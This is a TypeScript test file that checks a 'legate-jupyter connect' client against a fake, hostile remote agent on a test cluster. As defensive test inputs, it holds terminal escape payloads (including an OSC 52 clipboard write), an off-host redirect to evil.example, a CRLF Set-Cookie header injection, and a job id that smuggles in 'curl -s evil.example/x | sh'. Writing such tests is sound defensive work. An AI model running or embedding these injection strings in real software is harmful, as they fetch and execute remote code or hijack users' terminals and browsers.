/**
 * `connect` against a login node that cannot be trusted, on the four-host test cluster: real
 * ssh from the connect tests' laptop (laptop2) into login1, where `--remote-command` runs a
 * fake of the agent (tests/support/fake_remote.ts: no real agent sends such things) speaking
 * the protocol with hostile content. What the laptop prints shows escapes escaped; a redirect
 * never leaves the laptop's own origin; ids that are commands are refused, never printed in a
 * command; exit codes outside 1–255 become 1; a remote that never answers meets a deadline; a
 * flood is capped. Skipped, with the reason, where the cluster cannot be built.
 */

import assert from "node:assert/strict";
import { CLUSTER, onHost, shq, spawnOnHost } from "./cluster/cluster.ts";
import { connectTest, ctrlC, LAPTOP2, LAPTOP2_HOME } from "./cluster-connect/session.ts";

/** `--remote-command` running the fake agent in `mode` on login1. */
function fake(mode: string): string {
  return `--remote-command ${
    shq(`${Deno.execPath()} run -A --quiet ${CLUSTER.app}/tests/support/fake_remote.ts ${mode}`)
  }`;
}

/** `connect login1 ARGS` on laptop2 (no terminal), with its exit code and all it printed. */
async function connect(args: string, timeoutMs = 90_000) {
  const t0 = Date.now();
  const r = await onHost(LAPTOP2, `legate-jupyter connect login1 ${args}`, { timeoutMs });
  return { ...r, all: r.stdout + r.stderr, ms: Date.now() - t0 };
}

// ESC, BEL, and the C1 controls CSI, OSC and ST: none may reach the laptop's terminal raw.
// deno-lint-ignore no-control-regex
const RAW_ESCAPE = /[\x07\x1b\x9b\x9c\x9d]/;

connectTest(
  "every text a hostile login node sends is printed with its escapes shown escaped, and its exit code 0 becomes 1",
  async () => {
    const r = await connect(`${fake("escapes")} --no-browser`);
    assert.equal(r.code, 1, r.all);
    assert.doesNotMatch(r.all, RAW_ESCAPE, JSON.stringify(r.all));
    for (const what of ["note", "warning", "error"]) {
      assert.match(r.all, new RegExp(`${what} \\\\x1b\\[2J\\\\x1b\\]52;c;ZXZpbA==\\\\x07`), r.all);
    }
    assert.match(r.all, /\\x9b2J\\x9d0;c1\\x9c/);
    assert.match(r.all, /Submitted job 7 on login1; its log there: \/tmp\/log\\x1b/);
  },
);

connectTest("an error whose exit code is not a number from 1 to 255 exits 1", async () => {
  const r = await connect(`${fake("exit-abc")} --no-browser`);
  assert.equal(r.code, 1, r.all);
  assert.match(r.stderr, /a failure with a bad exit code/);
});

connectTest(
  "a base path that would send the browser off-host, or inject headers, is refused as a protocol error",
  async () => {
    for (
      const [mode, said] of [
        ["redirect", /a base path that is not a path on this machine: "\/\/evil\.example\/"/],
        ["crlf", /a base path with control characters: "\/x\\\\x0d\\\\x0aSet-Cookie/],
      ] as const
    ) {
      const r = await connect(`${fake(mode)} --no-browser`);
      assert.equal(r.code, 1, r.all);
      assert.match(r.stderr, /login1 sent what connect's protocol does not allow/, r.all);
      assert.match(r.stderr, said, r.all);
      assert.doesNotMatch(r.all, /http:\/\/127\.0\.0\.1:\d+\/\/evil|\r\nSet-Cookie/);
      // The job it claimed to submit is named, with a command that is quoted and safe.
      assert.match(
        r.stderr,
        /job 7 may still run on login1: cancel it with: legate-jupyter connect login1 --cancel 7$/m,
      );
    }
  },
);

connectTest(
  "an odd base path is URL-encoded, and the one-time link's redirect stays on 127.0.0.1",
  async () => {
    const recorder = `${LAPTOP2_HOME}/ljd-record-browser`;
    const opened = `${LAPTOP2_HOME}/ljd-opened`;
    const home = CLUSTER.home;
    await Deno.writeTextFile(recorder, `#!/bin/sh\nprintf '%s' "$1" > ${home}/ljd-opened\n`, {
      mode: 0o755,
    });
    await Deno.chown(recorder, CLUSTER.uid, CLUSTER.uid);
    await Deno.remove(opened).catch(() => {});
    try {
      await using p = spawnOnHost(
        LAPTOP2,
        `BROWSER=${home}/ljd-record-browser legate-jupyter connect login1 ${fake("odd-path")}`,
        { tty: true, timeoutMs: 120_000 },
      );
      const url = (await p.waitFor(/http:\/\/127\.0\.0\.1:(\d+)\/\S*\?token=\w+/, 60_000))[0];
      const port = new URL(url).port;
      assert.equal(url, `http://127.0.0.1:${port}/a%20b/%5Cevil.example/?token=0123456789abcdef`);
      await p.waitFor(/Opened it in your browser/, 30_000);
      // The browser is started detached: give it a moment to write down what it was given.
      let link = "";
      for (let i = 0; i < 100 && !link; i++) {
        link = await Deno.readTextFile(opened).catch(() => "");
        if (!link) await new Promise((r) => setTimeout(r, 100));
      }
      assert.match(link, new RegExp(`^http://127\\.0\\.0\\.1:${port}/legate-jupyter/open/`));
      const r = await onHost(
        LAPTOP2,
        `curl -s -o /dev/null -w '%{http_code} %{redirect_url}' ${shq(link)}`,
      );
      assert.equal(r.stdout.trim(), `302 ${url}`);
      // The fake never answers a cancel: a second Ctrl-C, once the first was taken, leaves.
      await ctrlC(p);
      await p.waitFor(/Ending the session/, 30_000);
      await ctrlC(p);
      assert.equal((await p.finished()).code, 130);
    } finally {
      await Deno.remove(recorder).catch(() => {});
      await Deno.remove(opened).catch(() => {});
    }
  },
);

connectTest(
  "a job id that is a shell command is refused, and no printed command carries it",
  async () => {
    const r = await connect(`${fake("jobid")} --no-browser`);
    assert.equal(r.code, 1, r.all);
    assert.match(r.stderr, /a job id that is not one: "7; curl -s evil\.example\/x \| sh"/);
    assert.doesNotMatch(r.all, /--(attach|cancel) 7; curl/);
  },
);

connectTest(
  "a remote that never prints the marker, or prints without end, meets --remote-timeout with what it printed last",
  async () => {
    const silent = await connect(`${fake("silent")} --remote-timeout 3 --jobs`);
    assert.equal(silent.code, 1, silent.all);
    assert.match(
      silent.stderr,
      /login1 logged you in, but legate-jupyter did not answer there within 3 s \(it printed nothing\)/,
    );
    assert.ok(silent.ms < 30_000, `${silent.ms} ms`);
    const endless = await connect(`${fake("endless")} --remote-timeout 3 --jobs`);
    assert.equal(endless.code, 1, endless.all);
    assert.match(endless.stderr, /within 3 s; the last it printed: .*loading line \d+ \\x1b\[2J/);
    assert.doesNotMatch(endless.all, RAW_ESCAPE);
    assert.ok(endless.ms < 30_000, `${endless.ms} ms`);
  },
);

connectTest(
  "a bad frame after the marker is reported as a protocol error, not as a remote that did not start",
  async () => {
    const r = await connect(`${fake("badframe")} --jobs`);
    assert.equal(r.code, 1, r.all);
    assert.match(
      r.stderr,
      /the legate-jupyter on login1 broke connect's protocol \(protocol error: unknown frame type 71\)/,
    );
    assert.doesNotMatch(r.stderr, /did not start/);
  },
);

connectTest(
  "a flood of megabyte notes is cut to what a person can read",
  async () => {
    const out = `${CLUSTER.home}/ljd-flood.out`;
    try {
      const r = await onHost(
        LAPTOP2,
        `legate-jupyter connect login1 ${fake("flood")} --no-browser > ${
          shq(out)
        } 2>&1; echo "exit=$?"; wc -c < ${shq(out)}`,
        { timeoutMs: 120_000 },
      );
      const [exit, bytes] = r.stdout.trim().split("\n");
      assert.equal(exit, "exit=3", r.stdout + r.stderr);
      assert.ok(Number(bytes) < 400_000, `printed ${bytes} bytes`);
      const text = await Deno.readTextFile(`${LAPTOP2_HOME}/ljd-flood.out`);
      assert.match(text, /more messages from login1 were not shown|the flood is over/);
      assert.match(text, /the flood is over/);
    } finally {
      await Deno.remove(`${LAPTOP2_HOME}/ljd-flood.out`).catch(() => {});
    }
  },
);

connectTest(
  "connect --jobs and jobs show a job name's C1 controls escaped",
  async () => {
    const r = await connect(`${fake("jobs-c1")} --jobs`);
    assert.equal(r.code, 0, r.all);
    assert.match(r.stdout, /evil\\x9b2J\\x1b\]0;t\\x07name/);
    assert.doesNotMatch(r.all, RAW_ESCAPE);
    // A record an older version wrote, with such a name: `jobs` on login1 escapes it too.
    const jobs = `${CLUSTER.home}/.local/state/legate-jupyter/jobs`;
    const record = `${jobs}/slurm-99999.json`;
    await onHost(
      "login1",
      `mkdir -p ${jobs} && chmod 700 ${CLUSTER.home}/.local/state/legate-jupyter ${jobs}`,
    );
    await Deno.writeTextFile(
      record,
      JSON.stringify({
        id: "99999",
        scheduler: "slurm",
        name: "old\x9b2Jname",
        submittedAt: "2026-01-01T00:00:00Z",
        submitHost: "login1",
      }),
      { mode: 0o600 },
    );
    await Deno.chown(record, CLUSTER.uid, CLUSTER.uid);
    try {
      const listed = await onHost("login1", "legate-jupyter jobs");
      assert.equal(listed.code, 0, listed.stderr);
      assert.match(listed.stdout, /99999\s+old\\x9b2Jname\s+ENDED/);
      assert.doesNotMatch(listed.stdout + listed.stderr, RAW_ESCAPE);
    } finally {
      await Deno.remove(record).catch(() => {});
    }
  },
);
